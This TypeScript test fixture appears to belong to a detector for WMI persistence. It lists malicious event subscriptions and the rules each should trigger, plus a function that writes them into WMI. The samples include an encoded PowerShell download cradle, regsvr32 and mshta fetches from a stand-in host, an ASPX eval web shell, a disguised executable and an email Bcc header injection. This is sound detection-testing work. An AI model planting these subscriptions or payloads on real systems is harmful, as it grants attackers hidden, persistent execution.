import { type CimClass, defineClass, instanceOf, type WbemServices } from '@wmisec/wbem';

type Bag = Readonly<Record<string, unknown>>;

/** A way to stay on a machine through WMI, as public write-ups tell it, and the rules that have to notice it. */
export interface PersistencePattern {
  readonly name: string;
  /** Default `root\subscription`. */
  readonly namespace?: string;
  readonly objects: readonly (readonly [className: string, properties: Bag])[];
  readonly rules: readonly string[];
}

const PAYLOAD = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://x/a')", 'utf16le');
const UPTIME =
  "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325";
const ADMINISTRATORS_ONLY = 'O:BAG:BAD:(A;;LO;;;BA)';

/** Filter, consumer and binding. */
function subscription(name: string, query: string, className: string, consumer: Bag, filter: Bag = {}) {
  const consumerName = String(consumer['Name'] ?? name);
  return [
    [
      '__EventFilter',
      { Name: name, Query: query, QueryLanguage: 'WQL', EventNamespace: 'root\\cimv2', ...filter },
    ],
    [className, { Name: consumerName, ...consumer }],
    [
      '__FilterToConsumerBinding',
      { Filter: `__EventFilter.Name="${name}"`, Consumer: `${className}.Name="${consumerName}"` },
    ],
  ] as const;
}

const always = ['event-access-missing', 'event-namespace'];

export const PERSISTENCE_PATTERNS: readonly PersistencePattern[] = [
  {
    name: 'an encoded PowerShell command some minutes after the start',
    objects: subscription('Updater', UPTIME, 'CommandLineEventConsumer', {
      CommandLineTemplate: `powershell.exe -NoP -sta -NonI -W Hidden -Enc ${PAYLOAD.toString('base64')}`,
    }),
    rules: ['suspicious-command', 'runs-command', 'persistence-trigger', ...always],
  },
  {
    name: 'a script that drops a file at every logon',
    objects: subscription(
      'Logon',
      "SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 2",
      'ActiveScriptEventConsumer',
      {
        ScriptingEngine: 'VBScript',
        ScriptText: 'Set s = CreateObject("ADODB.Stream"): s.SaveToFile "C:\\Windows\\Temp\\a.exe", 2',
      },
    ),
    rules: ['suspicious-command', 'runs-script', 'persistence-trigger', ...always],
  },
  {
    name: 'a program for everybody who logs on',
    objects: subscription(
      'LoggedIn',
      "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_LoggedInUser'",
      'CommandLineEventConsumer',
      { ExecutablePath: 'C:\\Users\\Public\\svch0st.exe', CommandLineTemplate: 'svch0st.exe' },
    ),
    rules: ['suspicious-command', 'runs-command', 'persistence-trigger', ...always],
  },
  {
    name: 'a script by a timer of WMI',
    objects: [
      ['__IntervalTimerInstruction', { TimerId: 'HealthTimer', IntervalBetweenEvents: 1_800_000 }],
      ...subscription(
        'Health',
        "SELECT * FROM __TimerEvent WHERE TimerId = 'HealthTimer'",
        'ActiveScriptEventConsumer',
        { ScriptingEngine: 'JScript', ScriptFileName: 'C:\\ProgramData\\health.js' },
        { EventNamespace: 'root\\subscription' },
      ),
    ],
    rules: [
      'suspicious-command',
      'runs-script',
      'persistence-trigger',
      'timer-instruction',
      'event-access-missing',
    ],
  },
  {
    name: 'a command by the clock, through scriptlets',
    objects: subscription(
      'Clock',
      "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime' AND TargetInstance.Hour = 6",
      'CommandLineEventConsumer',
      { CommandLineTemplate: 'regsvr32.exe /s /n /u /i:http://x/a.sct scrobj.dll' },
    ),
    rules: ['suspicious-command', 'runs-command', 'persistence-trigger', ...always],
  },
  {
    name: 'a web shell and a file for the startup folder, written as logs',
    objects: [
      ...subscription('Shell', UPTIME, 'LogFileEventConsumer', {
        Filename: 'C:\\inetpub\\wwwroot\\aspnet_client\\error.aspx',
        Text: '<%@ Page Language="Jscript"%><%eval(Request.Item["x"])%>',
      }),
      ...subscription('Startup', UPTIME, 'LogFileEventConsumer', {
        Filename: 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\a.bat',
        Text: 'start mshta http://x',
      }),
    ],
    rules: ['sensitive-log-file', ...always],
  },
  {
    name: 'a filter that is called nearly as one of Windows',
    objects: subscription('SCM Event Filter', UPTIME, 'CommandLineEventConsumer', {
      Name: 'SCM Events Log Consumer',
      ExecutablePath: 'C:\\Windows\\System32\\wbem\\agent.exe',
    }),
    rules: ['look-alike', 'runs-command', 'persistence-trigger', ...always],
  },
  {
    name: 'a filter of Windows with another consumer',
    objects: subscription(
      'SCM Event Log Filter',
      'SELECT * FROM MSFT_SCMEventLogEvent',
      'CommandLineEventConsumer',
      {
        ExecutablePath: 'C:\\Acme\\agent.exe',
      },
    ),
    rules: ['look-alike', 'runs-command', ...always],
  },
  {
    name: 'event data that says what is started, and what a shell runs',
    objects: [
      ...subscription('Chosen', 'SELECT * FROM Acme_Alarm', 'CommandLineEventConsumer', {
        CommandLineTemplate: '%Program% /run',
      }),
      ...subscription('Given', 'SELECT * FROM Acme_Alarm', 'CommandLineEventConsumer', {
        ExecutablePath: 'C:\\Windows\\System32\\cmd.exe',
        CommandLineTemplate: 'cmd.exe /c %Command%',
      }),
    ],
    rules: ['event-chooses-program', 'event-data-in-shell', 'runs-command', ...always],
  },
  {
    name: 'parts that wait for the missing one',
    objects: [
      [
        '__EventFilter',
        { Name: 'Waiting', Query: UPTIME, QueryLanguage: 'WQL', EventNamespace: 'root\\cimv2' },
      ],
      ['ActiveScriptEventConsumer', { Name: 'Sleeping', ScriptingEngine: 'VBScript', ScriptText: 'x = 1' }],
      [
        '__FilterToConsumerBinding',
        { Filter: '__EventFilter.Name="Gone"', Consumer: 'CommandLineEventConsumer.Name="Gone"' },
      ],
    ],
    rules: ['orphaned-filter', 'orphaned-consumer', 'broken-binding', 'runs-script', ...always],
  },
  {
    name: 'a subscription where nobody looks, through a class of its own',
    namespace: 'root\\default',
    objects: subscription('Quiet', UPTIME, 'Acme_Pager', {}),
    rules: ['unusual-namespace', 'unknown-consumer-class', 'persistence-trigger', ...always],
  },
  {
    name: 'event data that is mailed away, with a header that adds a recipient',
    objects: subscription('Mail', 'SELECT * FROM Acme_Alarm', 'SMTPEventConsumer', {
      SMTPServer: 'mail.example.org',
      ToLine: 'x@example.org',
      HeaderFields: ['X-A: b\r\nBcc: y@example.org'],
    }),
    rules: ['sends-mail', 'raw-header-fields', ...always],
  },
  {
    name: 'a provider of consumers that nobody knows',
    namespace: 'root\\cimv2',
    objects: [
      ['__Win32Provider', { Name: 'Quiet', CLSID: '{00000000-0000-0000-0000-000000000001}' }],
      [
        '__EventConsumerProviderRegistration',
        { provider: '__Win32Provider.Name="Quiet"', ConsumerClassNames: ['Acme_Pager'] },
      ],
    ],
    rules: ['consumer-provider'],
  },
  {
    name: 'nothing but an entry in the event log',
    objects: subscription(
      'Harmless',
      'SELECT * FROM Acme_Alarm',
      'NTEventLogEventConsumer',
      { SourceName: 'Acme', EventID: 1, EventType: 4 },
      { EventNamespace: 'root\\subscription', EventAccess: ADMINISTRATORS_ONLY },
    ),
    rules: [],
  },
];

const pager = defineClass({
  name: 'Acme_Pager',
  superclass: '__EventConsumer',
  properties: { Name: { type: 'string', key: true } },
});

/** Writes what a pattern consists of, as its author would: object by object. */
export async function plantPattern(services: WbemServices, { objects }: PersistencePattern): Promise<void> {
  for (const [className, properties] of objects) {
    if (className === pager.className) await services.putClass(pager);
    const cls = (await services.getObject(className)) as CimClass;
    await services.putInstance(instanceOf(cls, properties));
  }
}
